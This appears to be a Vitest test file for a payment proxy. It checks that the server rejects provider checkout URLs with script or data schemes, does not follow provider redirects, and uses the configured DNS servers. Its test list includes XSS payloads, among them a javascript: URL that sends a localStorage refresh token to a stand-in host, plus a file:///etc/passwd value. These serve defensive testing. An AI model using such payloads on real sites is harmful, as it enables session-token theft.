import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import type { PaymentMethod } from '@proxy/contract';
import { sites } from '../../db/schema/index.js';
import { isBrowserUrlAllowed } from '../../lib/outbound.js';
import { startDnsServer, type TestDnsServer } from '../../../test/dns-server.js';
import { notFound, randomId, startFake, type FakeRequest, type FakeServer } from '../../../test/fakes/http.js';
import { build, countRows, customer, type TestApp } from '../../../test/helper.js';
import { configureMethod, expectLedgerHolds, setPromotion, siteId } from '../../../test/payments.js';

/**
 * URLs in a provider's answer (docs/operations.md#security): the checkout URL goes to the payer's browser, so a
 * `javascript:` or `data:` URL would run in the panel. The server refuses such an answer: the
 * creation fails with the method's error code and the top-up is closed, never left pending.
 * (The test app runs with OUTBOUND_ALLOW_PRIVATE=1, as the local fakes need.)
 */

/** Bytepay and Stripe endpoints whose checkout URL the test chooses; every request is recorded. */
interface ScriptedFake extends FakeServer {
  requests: FakeRequest[];
  payUrl: string;
  /** When set, create answers with a redirect there instead. */
  redirectTo?: string;
}

async function scriptedFake(): Promise<ScriptedFake> {
  const requests: FakeRequest[] = [];
  const state = { payUrl: 'https://pay.example/checkout', redirectTo: undefined as string | undefined };
  const server = await startFake((req) => {
    requests.push(req);
    if (state.redirectTo) {
      return { status: 307, redirect: state.redirectTo };
    }
    if (req.method === 'POST' && req.path === '/v1/orders') {
      return { json: { id: randomId('bp_'), order_id: req.body.order_id, pay_url: state.payUrl } };
    }
    if (req.method === 'POST' && req.path === '/v1/checkout/sessions') {
      return { json: { id: randomId('cs_'), object: 'checkout.session', url: state.payUrl, status: 'open' } };
    }
    return notFound();
  });
  return Object.assign(state, server, { requests });
}

let t: TestApp;
let fake: ScriptedFake;
let other: ScriptedFake;
let dns: TestDnsServer;

beforeAll(async () => {
  dns = await startDnsServer({ 'fake.example.test': ['127.0.0.1'] }, 0);
  t = await build({ OUTBOUND_DNS_SERVERS: dns.address });
  fake = await scriptedFake();
  other = await scriptedFake();
  await configureMethod(t, 'bytepay', {
    enabled: true,
    baseUrl: fake.url,
    apiKey: 'bytepay-api-key',
    ipnSecret: 'bytepay-ipn-secret',
  });
  await configureMethod(t, 'card', { enabled: true, baseUrl: fake.url, secretKey: 'sk_test', webhookSecret: 'whsec' });
  await configureMethod(t, 'perfectmoney', {
    enabled: true,
    payeeAccount: 'U1234567',
    alternatePassphrase: 'pm-alt-pass',
    sciUrl: 'https://perfectmoney.com/api/step1.asp',
  });
  await setPromotion(t, null);
});
afterAll(async () => {
  await fake.close();
  await other.close();
  await t.close();
  await dns.close();
});

const CREATE: Record<string, string> = {
  bytepay: '/api/user/bytepay-create-order',
  card: '/api/user/payment-credit-card',
  perfectmoney: '/api/user/perfect-money-create-order',
};

function create(method: PaymentMethod, token: string) {
  return t.inject({ method: 'POST', url: CREATE[method]!, token, payload: { amount: 480_000 } });
}

async function pendingAndFailed(userId: string) {
  return {
    pending: await countRows(t, `topups where user_id = '${userId}' and status = 'pending'`),
    failed: await countRows(t, `topups where user_id = '${userId}' and status = 'failed'`),
  };
}

const SCRIPT_URLS = [
  'javascript:alert(1)',
  'JavaScript:fetch("//evil.example/"+localStorage.refreshToken)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/no-scheme',
  'not a url',
];

describe('checkout URLs from a provider', () => {
  it('should fail the creation and close the top-up when bytepay answers a script or data URL', async () => {
    const c = await customer(t);
    for (const url of SCRIPT_URLS) {
      fake.payUrl = url;
      const res = await create('bytepay', c.token);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().message, url).toBe('PAYMENT_ERROR');
      expect(res.body, url).not.toContain('alert');
    }
    expect(await pendingAndFailed(c.id)).toEqual({ pending: 0, failed: SCRIPT_URLS.length });
    await expectLedgerHolds(t);
  });

  it('should fail a card Checkout Session whose url is javascript:, with the card error code', async () => {
    const c = await customer(t);
    fake.payUrl = 'javascript:alert(document.domain)';
    const res = await create('card', c.token);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('CREDIT_ERROR');
    expect(await pendingAndFailed(c.id)).toEqual({ pending: 0, failed: 1 });
  });

  it('should hand out https checkout URLs (and http to the local fakes) unchanged', async () => {
    const c = await customer(t);
    for (const url of ['https://pay.example/checkout?x=1', `${fake.url}/checkout`]) {
      fake.payUrl = url;
      const res = await create('bytepay', c.token);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().instructions.redirectUrl).toBe(url);
    }
  });

  it('should refuse a Perfect Money form whose action is not https (a URL stored before the rule)', async () => {
    const id = await siteId(t);
    const [row] = await t.ctx.db.select().from(sites).where(eq(sites.id, id));
    const settings = row!.settings;
    const pm = settings.payments!.methods!.perfectmoney!;
    const methods = { ...settings.payments!.methods, perfectmoney: { ...pm, values: { ...pm.values } } };
    methods.perfectmoney.values.sciUrl = 'javascript:alert(1)';
    await t.ctx.db
      .update(sites)
      .set({ settings: { ...settings, payments: { ...settings.payments, methods } } })
      .where(eq(sites.id, id));
    t.app.sites.invalidate();
    const c = await customer(t);
    const res = await create('perfectmoney', c.token);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('PAYMENT_ERROR');
    expect(await pendingAndFailed(c.id)).toEqual({ pending: 0, failed: 1 });
  });

  it('should allow http checkout URLs only with OUTBOUND_ALLOW_PRIVATE, and never other schemes', () => {
    const off = { allowPrivate: false };
    const on = { allowPrivate: true };
    expect(isBrowserUrlAllowed('https://pay.example/x', off)).toBe(true);
    expect(isBrowserUrlAllowed('http://pay.example/x', off)).toBe(false);
    expect(isBrowserUrlAllowed('http://127.0.0.1:9/x', on)).toBe(true);
    for (const url of [...SCRIPT_URLS, 'ftp://pay.example/x', 'file:///etc/passwd', null, 42]) {
      expect(isBrowserUrlAllowed(url, off), String(url)).toBe(false);
      expect(isBrowserUrlAllowed(url, on), String(url)).toBe(false);
    }
  });
});

describe('provider calls', () => {
  it('should not follow a redirect from the provider', async () => {
    const c = await customer(t);
    fake.redirectTo = `${other.url}/v1/orders`;
    try {
      const res = await create('bytepay', c.token);
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe('PAYMENT_ERROR');
    } finally {
      fake.redirectTo = undefined;
    }
    expect(other.requests).toHaveLength(0);
    expect(await pendingAndFailed(c.id)).toEqual({ pending: 0, failed: 1 });
  });

  it('should connect through the name servers of OUTBOUND_DNS_SERVERS', async () => {
    const port = new URL(other.url).port;
    await configureMethod(t, 'bytepay', { baseUrl: `http://fake.example.test:${port}` });
    const c = await customer(t);
    other.payUrl = 'https://pay.example/other';
    const res = await create('bytepay', c.token);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().instructions.redirectUrl).toBe('https://pay.example/other');
    expect(other.requests.map((r) => r.headers.host)).toEqual([`fake.example.test:${port}`]);
    expect(dns.questions.some((q) => q.name === 'fake.example.test')).toBe(true);
  });
});
